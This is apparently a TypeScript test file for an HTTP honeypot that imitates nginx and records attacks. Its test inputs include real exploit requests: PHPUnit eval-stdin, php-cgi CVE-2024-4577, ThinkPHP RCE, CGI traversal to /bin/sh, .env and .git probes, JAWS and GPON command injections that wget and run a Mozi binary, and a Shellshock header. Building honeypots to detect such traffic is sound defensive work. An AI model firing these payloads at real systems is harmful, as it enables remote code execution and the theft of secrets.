import { describe, expect, it } from 'vitest';
import { bodyOf, meet } from '../play.ts';
import { http } from './http.ts';

const get = (target: string, more = '') => `GET ${target} HTTP/1.1\r\nHost: x\r\n${more}\r\n`;
const post = (target: string, body: string) =>
  `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

async function ask(bytes: string, options: Record<string, unknown> = {}) {
  const talk = meet(http, { options });
  const answer = (await talk.say(bytes)) + (await talk.leave());
  expect(talk.faults).toEqual([]);
  const bodies = talk.events.map(bodyOf).filter(({ kind }) => kind !== 'connect' && kind !== 'close');
  return { answer, status: Number(answer.split(' ')[1]), bodies, talk };
}

describe('nginx', () => {
  it('answers a missing page byte by byte as nginx does', async () => {
    const { answer } = await ask(get('/nope'));
    const server = /Server: (\S+)/.exec(answer)![1];
    expect(answer).toBe(
      `HTTP/1.1 404 Not Found\r\nServer: ${server}\r\nDate: Thu, 28 May 2026 20:26:40 GMT\r\nContent-Type: text/html\r\nContent-Length: 153\r\nConnection: keep-alive\r\n\r\n<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n<hr><center>${server}</center>\r\n</body>\r\n</html>\r\n`,
    );
    expect((await ask(get('/nope', 'User-Agent: Chrome/1\r\n'))).answer).toContain('Content-Length: 555\r\n');
  });

  // What Debian's nginx 1.22.1 said to the same bytes.
  it.each<[string, number]>([
    ['foo\r\n\r\n', 400],
    ['GET / HTTP/2.0\r\nHost: x\r\n\r\n', 505],
    ['GET / HTTP/1.1\r\n\r\n', 400],
    ['FOO / HTTP/1.1\r\nHost: x\r\n\r\n', 405],
    ['POST /robots.txt HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\na', 405],
    ['POST /nope HTTP/1.1\r\nHost: x\r\nContent-Length: zz\r\n\r\na', 400],
    ['GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: foo\r\n\r\n', 501],
    [get('/../../etc/passwd'), 400],
    ['CONNECT a:1 HTTP/1.1\r\nHost: x\r\n\r\n', 400],
    ['GET http://a/ HTTP/1.1\r\nHost: x\r\n\r\n', 200],
    ['OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n', 400],
    ['GET / HTTP/1.1 x\r\nHost: x\r\n\r\n', 400],
    ['GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n', 400],
    ['GET / FTP/1.1\r\nHost: x\r\n\r\n', 400],
    ['\x16\x03\x01\x00', 400],
    ['TRACE / HTTP/1.1\r\nHost: x\r\n\r\n', 405],
    [get(`/${'a'.repeat(9_000)}`), 414],
    [get('/', `A: ${'a'.repeat(9_000)}\r\n`), 400],
    ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400],
    ['get / HTTP/1.1\r\nHost: x\r\n\r\n', 400],
    ['POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\na', 413],
    ['GET / HTTP/1.1\nHost: x\n\n', 200],
  ])('%j', async (bytes, status) => {
    const { status: given, bodies } = await ask(bytes);
    expect(given).toBe(status);
    expect(bodies.filter(({ kind }) => kind === 'request')).toMatchObject([{ status }]);
  });

  it('keeps the order and case of headers, and serves pipelined requests, HEAD and HTTP/0.9', async () => {
    const { answer, bodies } = await ask(
      `${get('/robots.txt', 'x-B: 1\r\nX-a: 2\r\n')}HEAD /robots.txt HTTP/1.0\r\n\r\n`,
    );
    expect(answer.match(/HTTP\/1\.1 200 OK/g)).toHaveLength(2);
    expect(answer.match(/Disallow/g)).toHaveLength(1);
    expect(answer).toMatch(
      /Last-Modified: .*\r\nConnection: keep-alive\r\nETag: "[0-9a-f]+-1a"\r\nAccept-Ranges: bytes\r\n/,
    );
    expect(bodies[0]).toMatchObject({
      headers: [
        ['Host', 'x'],
        ['x-B', '1'],
        ['X-a', '2'],
      ],
    });
    expect((await ask('GET /robots.txt\r\n')).answer).toBe('User-agent: *\nDisallow: /\n');
  });

  it('reads a chunked body and answers 100-continue', async () => {
    const head =
      'POST /login.php HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n';
    const { answer, bodies } = await ask(`${head}9\r\nusername=\r\nf\r\nroot&password=x\r\n0\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 100 Continue\r\n\r\nHTTP\/1\.1 200 OK/);
    expect(answer).toContain('Invalid user name');
    expect(bodies).toMatchObject([
      { kind: 'login', user: 'root', secret: 'x', ok: false },
      { kind: 'request', body: 'username=root&password=x' },
    ]);
  });
});

describe('W1: what is attacked most', () => {
  it.each<[string, string, string]>([
    [
      'phpunit',
      post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo(md5("Hello PHPUnit"));'),
      '6a9f35012f4290369bcf45fd7ccf29cf',
    ],
    [
      'php-cgi',
      post(
        '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
        '<?php echo(md5("Hello CVE-2024-4577"));',
      ),
      'd5c6a2deb8ac3d4e74d79d582b9f3898',
    ],
    [
      'thinkphp',
      get(
        '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
      ),
      '6c3b442f7280dcdb9ac44ae3aedcdd62',
    ],
    [
      'cgi-traversal',
      post('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 'echo Content-Type: text/plain; echo; id'),
      'uid=0(root)',
    ],
    ['cgi-traversal', get('/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd'), 'root:x:0:0'],
    ['dotenv', get('/.env'), 'AWS_SECRET_ACCESS_KEY='],
    ['git', get('/.git/config'), '[remote "origin"]'],
  ])('%s', async (lure, bytes, expected) => {
    const { answer, bodies, status } = await ask(bytes, { lures: [lure] });
    expect(status).toBe(200);
    expect(answer).toContain(expected);
    expect(bodies[0]).toMatchObject({ kind: 'request', status: 200, detail: { lure } });
  });

  it('runs what JAWS and GPON would run, and tells where from they would fetch', async () => {
    const jaws = await ask(
      get('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1:80/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws'),
      { lures: ['jaws'] },
    );
    expect(jaws.bodies).toMatchObject([
      { kind: 'request', status: 200, detail: { lure: 'jaws' } },
      {
        kind: 'command',
        input: 'cd /tmp;rm -rf *;wget http://192.0.2.1:80/Mozi.a;chmod 777 Mozi.a;/tmp/Mozi.a jaws',
      },
      { kind: 'download', url: 'http://192.0.2.1:80/Mozi.a', tool: 'wget' },
    ]);
    const gpon = await ask(
      post(
        '/GponForm/diag_Form?images/',
        'XWebPageName=diag&dest_host=`busybox+wget+http://192.0.2.1/gpon80+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0',
      ),
    );
    expect(gpon.status).toBe(404);
    expect(gpon.bodies).toMatchObject([
      { kind: 'request', status: 404 },
      { kind: 'command' },
      { kind: 'download', url: 'http://192.0.2.1/gpon80', name: '/tmp/gaf' },
    ]);
  });

  it('finds what would be fetched in headers, and a program in a body', async () => {
    const { bodies } = await ask(
      get(
        '/',
        'User-Agent: () { :;}; /bin/bash -c "wget http://192.0.2.1/s -O- | sh"\r\nReferer: http://example.test/\r\n',
      ),
    );
    expect(bodies.slice(1)).toMatchObject([{ kind: 'download', url: 'http://192.0.2.1/s' }]);
    const { bodies: put, talk } = await ask(post('/upload.php', '\x7fELF\x02'));
    expect(put[1]).toMatchObject({ kind: 'upload', size: 5 });
    expect(talk.payloads.size).toBe(1);
  });

  it('shows other bait on another sensor', async () => {
    const one = meet(http, { seed: 'one' });
    const two = meet(http, { seed: 'two' });
    const key = (text: string) => /AWS_ACCESS_KEY_ID=(AKIA[A-Z2-7]{16})\n/.exec(text)![1];
    expect(key(await one.say(get('/.env')))).not.toBe(key(await two.say(get('/.env'))));
  });
});
